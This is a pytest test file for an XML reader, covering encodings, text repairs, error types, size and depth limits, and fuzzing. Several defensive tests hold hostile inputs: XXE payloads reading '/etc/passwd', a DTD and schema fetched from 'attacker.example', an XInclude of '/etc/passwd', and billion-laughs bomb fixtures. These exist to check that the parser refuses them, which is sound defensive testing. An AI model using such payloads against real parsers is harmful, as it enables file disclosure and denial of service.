"""Reading XML that people have: its shapes, its faults that are repaired, its faults that are told."""

from __future__ import annotations

import gzip
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from azdarar.formats import xml
from azdarar.formats.xml import Limits, XMLError, XMLStream, read_xml
from tests.unit.formats.places import FIXTURES


class Dripping(io.BytesIO):
    """A stream that gives a few bytes at a time, as networks do."""

    def read(self, size: int | None = -1) -> bytes:
        return super().read(min(size or 7, 7) if size != -1 else 7)


def channel_texts(data: bytes) -> list[str]:
    return [element.full_text for element in XMLStream(data, path=("rss", "channel"))]


def test_elements_come_in_order_with_line_namespace_and_attributes() -> None:
    data = b'<rss xmlns:a="urn:a">\n<channel>\n<a:x k="v">1<y>2</y>3</a:x>\n<z/></channel></rss>'

    first, second = XMLStream(data, path=("rss", "channel"))

    assert (first.local, first.prefix, first.namespace, first.line) == ("x", "a", "urn:a", 3)
    assert first.attributes == {"k": "v"}
    assert (first.text, first.full_text) == ("13", "123")
    assert [child.local for child in first.children] == ["y"]
    assert (second.name, second.text, second.line) == ("z", "", 4)


def test_a_stream_that_drips_gives_the_same_as_one_that_flows() -> None:
    data = "<rss><channel><a>é &amp; ]]&gt; <![CDATA[<b>&amp;]]></a><!-- no --><b/></channel></rss>".encode()

    dripping = [(e.name, e.full_text) for e in XMLStream(Dripping(data), path=("rss", "channel"))]

    assert dripping == [("a", "é & ]]> <b>&amp;"), ("b", "")]


@pytest.mark.parametrize(
    ("encoding", "mark"),
    [
        ("utf-8", b""),
        ("utf-8", b"\xef\xbb\xbf"),
        ("utf-16-le", b"\xff\xfe"),
        ("utf-16-be", b"\xfe\xff"),
        ("utf-16-be", b""),
        ("utf-16-le", b""),
        ("utf-32-le", b"\xff\xfe\x00\x00"),
        ("utf-32-be", b""),
    ],
)
def test_unicode_is_read_in_every_encoding_with_or_without_mark(encoding: str, mark: bytes) -> None:
    data = mark + '<?xml version="1.0"?><r>Երևան, été</r>'.encode(encoding)

    assert read_xml(data).text == "Երևան, été"


@pytest.mark.parametrize("encoding", ["iso-8859-1", "windows-1252", "ISO-8859-15", "koi8-r", "windows-1251"])
def test_a_declared_old_encoding_is_read(encoding: str) -> None:
    text = "Привет" if "8-r" in encoding or "1251" in encoding else "Déjà vu"
    data = f'<?xml version="1.0" encoding="{encoding}"?><r>{text}</r>'.encode(encoding)

    assert read_xml(data).text == text


@pytest.mark.parametrize("encoding", ["UTF-7", "rot13", "base64", "nonsense-9", "idna", "unicode_escape"])
def test_an_encoding_that_hides_markup_or_does_not_exist_is_refused(encoding: str) -> None:
    with pytest.raises(xml.UnknownEncodingError) as caught:
        read_xml(f'<?xml version="1.0" encoding="{encoding}"?><r/>'.encode())

    assert caught.value.data["encoding"] == encoding


def test_a_file_that_says_utf_16_in_eight_bits_is_read_as_what_it_is() -> None:
    assert read_xml('<?xml version="1.0" encoding="UTF-16"?><r>é</r>'.encode()).text == "é"


def test_bytes_of_another_encoding_become_their_letters_and_are_counted() -> None:
    stream = XMLStream(b"<r>\n<a>caf\xe9 \x93ok\x94</a></r>", path=("r",))

    texts = [element.text for element in stream]

    assert texts == ["café “ok”"]
    assert [(repair.kind, repair.count, repair.first_line) for repair in stream.repairs] == [
        ("wrong-encoding", 3, 2)
    ]
    assert "Windows-1252" in str(stream.repairs[0])


def test_bare_ampersands_and_html_names_are_read_as_people_meant_them() -> None:
    stream = XMLStream(
        b"<r><a t='x&y'>R&D &eacute;t&eacute; &nosuch; &#0;&#233; &amp;lt; A&</a></r>", path=("r",)
    )

    (element,) = stream

    assert element.text == "R&D été &nosuch; é &lt; A&"
    assert element.attributes == {"t": "x&y"}
    assert {repair.kind: repair.count for repair in stream.repairs} == {
        "bare-ampersand": 4,
        "control-character": 1,
        "named-character": 2,
    }


def test_ampersands_in_cdata_are_left_alone() -> None:
    assert read_xml(b"<r><![CDATA[a & b &eacute; <!-- x -->]]></r>").text == "a & b &eacute; <!-- x -->"


def test_control_characters_go_and_lines_are_still_counted_right() -> None:
    stream = XMLStream(b"\n\n<?xml version='1.0'?>\n<r>\n<a>x\x00\x07y\x0bz</a>\n<b/></r>", path=("r",))

    first, second = stream

    assert (first.text, first.line, second.line) == ("xy z", 5, 6)


def test_ten_thousand_blank_lines_before_the_root_are_no_hindrance() -> None:
    assert read_xml(b"\xef\xbb\xbf" + b"\r\n" * 10_000 + b"<r>\n<a/></r>").children[0].line == 10_002


def test_comments_never_reach_the_parser_whatever_they_hold() -> None:
    data = b"<r><!-- a -- b <!DOCTYPE x> --><a>1</a><!--" + b"x\n" * 200_000 + b"--><b/></r>"

    assert [child.line for child in read_xml(data).children] == [1, 200_001]


def test_a_stray_cdata_end_is_text_where_content_is_never_mixed() -> None:
    data = b"<r><a><![CDATA[if (a[b[0]]>1) ]]> then ]]></a><b>x ]]> y</b></r>"

    stream = XMLStream(data, path=("r",), keep_stray_cdata_ends=True)

    assert [element.text for element in stream] == ["if (a[b[0]]>1) ]]> then ", "x ]]> y"]
    assert sum(repair.count for repair in stream.repairs) == 3


def test_mixed_content_after_cdata_is_kept_where_it_is_allowed() -> None:
    assert read_xml(b"<r><![CDATA[a]]>b<c/>d</r>").text == "abd"


def test_namespaces_that_are_undeclared_or_no_addresses_stop_nothing() -> None:
    root = read_xml('<r xmlns:u="http://ëx ämple/"><u:a/><v:b/><c xmlns="urn:c"><d/></c></r>'.encode())

    assert [(child.local, child.namespace) for child in root.children] == [
        ("a", "http://ëx ämple/"),
        ("b", ""),
        ("c", "urn:c"),
    ]
    assert root.children[2].children[0].namespace == "urn:c"


@pytest.mark.parametrize(
    ("data", "error"),
    [
        (b"", xml.EmptyFileError),
        (b" \r\n\t", xml.EmptyFileError),
        (b"\xef\xbb\xbf\n", xml.EmptyFileError),
        (b"\x00" * 9000, xml.EmptyFileError),
        (gzip.compress(b"<r/>", mtime=0), xml.CompressedFileError),
        (b"7z\xbc\xaf\x27\x1c\x00\x04", xml.CompressedFileError),
        (b"<!DOCTYPE html><html></html>", xml.HTMLGivenError),
        (b"<!-- saved --><HTML lang='fr'>", xml.HTMLGivenError),
        (b'{"db": []}', xml.NotXMLError),
        (b"%PDF-1.4", xml.NotXMLError),
        (b"Just text", xml.NotXMLError),
        (b"INSERT INTO `wp_posts` VALUES", xml.NotXMLError),
        (b"<r><a>", xml.CutOffError),
        (b"<r><a", xml.CutOffError),
        (b"<r><![CDATA[abc", xml.CutOffError),
        (b"<r><!-- abc", xml.CutOffError),
        (b"<?xml version='1.0'?>\n", xml.CutOffError),
        (b"<r></s>", xml.MalformedXMLError),
        (b"<r/><r/>", xml.MalformedXMLError),
        (b"<r a='1' a='2'/>", xml.MalformedXMLError),
        (b"<r/><?xml version='1.0'?><r/>", xml.MalformedXMLError),
    ],
)
def test_each_way_not_to_be_xml_has_its_own_error(data: bytes, error: type[XMLError]) -> None:
    with pytest.raises(error) as caught:
        read_xml(data, name="export.xml")

    assert "export.xml" in str(caught.value)
    assert "%(" not in str(caught.value)


def test_a_zip_is_named_as_one(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "export.xml", "w") as archive:
        archive.writestr("a.xml", "<r/>")

    with pytest.raises(xml.CompressedFileError, match="ZIP"):
        read_xml(tmp_path / "export.xml")


def test_a_broken_file_says_line_column_and_what_is_wrong_there() -> None:
    with pytest.raises(xml.MalformedXMLError) as caught:
        read_xml(b"\n<r>\n  <a>\n  </b>\n</r>")

    assert (caught.value.data["line"], caught.value.data["column"]) == (4, 5)
    assert "closed" in caught.value.data["problem"]


def test_what_came_before_a_fault_has_been_handed_out() -> None:
    stream = iter(XMLStream(b"<r><a>1</a><a>2</a></x>", path=("r",)))

    assert [next(stream).text, next(stream).text] == ["1", "2"]
    with pytest.raises(xml.MalformedXMLError):
        next(stream)


def test_another_kind_of_document_is_refused_at_its_first_tag() -> None:
    with pytest.raises(xml.UnexpectedRootError) as caught:
        list(XMLStream(b"<feed><entry/></feed>", path=("rss", "channel")))

    assert caught.value.data["found"] == "feed"


def test_a_missing_file_and_a_folder_are_told_with_their_reason(tmp_path: Path) -> None:
    for path in (tmp_path / "none.xml", tmp_path):
        with pytest.raises(xml.UnreadableFileError) as caught:
            read_xml(path)
        assert caught.value.data["name"] == path.name
        assert caught.value.data["reason"]


def test_an_error_of_the_stream_is_told_too() -> None:
    class Failing(io.RawIOBase):
        def read(self, size: int = -1) -> bytes:
            raise OSError(5, "Input/output error")

    with pytest.raises(xml.UnreadableFileError, match="input/output error"):
        read_xml(Failing())  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE r><r/>",
        b"<!DOCTYPE r SYSTEM 'http://attacker.example/x.dtd'><r/>",
        b"<!DOCTYPE r [<!ENTITY a 'b'>]><r>&a;</r>",
        b"<!DOCTYPE r [<!ENTITY % a SYSTEM 'file:///etc/passwd'> %a;]><r/>",
        "<!DOCTYPE r [<!ENTITY a 'b'>]><r>&a;</r>".encode("utf-16"),
        b"<r/><?php echo 1 ?>",
        b"<?xml-stylesheet href='x'?><r/>",
    ],
)
def test_document_types_entities_and_instructions_are_refused(data: bytes) -> None:
    with pytest.raises(xml.ForbiddenXMLError) as caught:
        read_xml(data)

    assert caught.value.data["line"] == 1


def test_an_instruction_that_is_expected_is_passed_over() -> None:
    assert read_xml(b"<?xpacket begin=''?><r>1</r>", ignored_instructions=frozenset({"xpacket"})).text == "1"


def test_xinclude_and_schema_addresses_are_elements_and_attributes_and_no_more() -> None:
    data = (
        b'<r xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:s="http://www.w3.org/2001/XMLSchema-instance"'
        b' s:schemaLocation="urn:x http://attacker.example/x.xsd"><xi:include href="file:///etc/passwd"/></r>'
    )

    (include,) = read_xml(data).children

    assert (include.local, include.full_text) == ("include", "")


@pytest.mark.parametrize("name", ["billion_laughs.xml", "quadratic_blowup.xml", "external_entity.xml"])
def test_bombs_are_refused_before_they_grow(name: str, traced_peak: object) -> None:
    with pytest.raises(xml.ForbiddenXMLError):
        read_xml(FIXTURES / "wxr" / name)

    assert traced_peak() < 2 * 2**20  # type: ignore[operator]


def test_sixty_four_levels_pass_and_sixty_five_do_not() -> None:
    assert read_xml(b"<a>" * 64 + b"</a>" * 64)
    with pytest.raises(xml.TooDeepError):
        read_xml(b"<a>" * 65 + b"</a>" * 65)


@pytest.mark.parametrize(
    ("data", "limits"),
    [
        (b"<r>" + b"x" * 2000 + b"</r>", Limits(text_length=1000)),
        (b"<r>" + b"<a>xxxx</a>" * 500 + b"</r>", Limits(element_length=1000)),
        (b"<r>" + b"<a/>" * 500 + b"</r>", Limits(elements=100)),
        (b"<r " + b" ".join(b"a%d='1'" % n for n in range(300)) + b"/>", Limits()),
        (b"<r a='" + b"x" * 300_000 + b"'>" + b"y" * 300_000 + b"</r>", Limits(token_bytes=100_000)),
        (b"<r>" + b"x" * 2000 + b"</r>", Limits(total_bytes=1000)),
    ],
)
def test_every_limit_is_a_refusal_and_not_a_crash(data: bytes, limits: Limits) -> None:
    with pytest.raises(xml.TooLargeXMLError):
        read_xml(data, limits=limits)


def test_a_paragraph_of_a_megabyte_is_no_problem() -> None:
    assert len(read_xml(b"<r>" + b"mot " * 250_000 + b"</r>").text) == 1_000_000


@settings(max_examples=200, deadline=None)
@given(
    st.binary(max_size=300)
    | st.tuples(st.integers(0, 150), st.binary(max_size=6), st.integers(0, 12)).map(
        lambda hit: _mutated(*hit),
    )
)
def test_any_bytes_end_with_elements_or_with_an_error_of_ours(data: bytes) -> None:
    try:
        list(XMLStream(data, path=("rss", "channel"), keep_stray_cdata_ends=True))
    except XMLError as error:
        told = str(error)
        assert told


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=60), st.integers(1, 40))
def test_text_survives_whatever_the_pieces_it_is_read_in(text: str, size: int) -> None:
    wanted = "".join(letter for letter in text if letter.isprintable()).replace("]]>", "")
    data = f"<r><![CDATA[{wanted}]]></r>".encode()

    class Pieces(io.BytesIO):
        def read(self, length: int | None = -1) -> bytes:
            return super().read(size)

    assert read_xml(Pieces(data)).text == wanted


def _mutated(position: int, inserted: bytes, removed: int) -> bytes:
    whole = '<?xml version="1.0"?><rss xmlns:a="urn:a"><channel><a:b c="d">é &amp; <![CDATA[x]]></a:b>'
    data = f"{whole}</channel></rss>".encode()
    return data[:position] + inserted + data[position + removed :]


def test_channel_children_are_handed_out_one_by_one() -> None:
    assert channel_texts(b"<rss><channel><a>1</a><b>2</b></channel></rss>") == ["1", "2"]
